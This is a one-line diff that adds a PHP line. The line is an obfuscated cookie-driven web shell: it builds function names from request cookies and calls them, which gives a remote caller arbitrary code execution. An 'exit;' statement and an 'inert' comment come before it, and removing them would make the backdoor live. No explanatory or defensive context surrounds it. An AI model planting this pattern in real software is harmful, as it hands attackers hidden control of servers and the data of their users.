@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $c=$_COOKIE; $f=$c[1].$c[2]; $f=$f($c[3]); $f($c[4]);
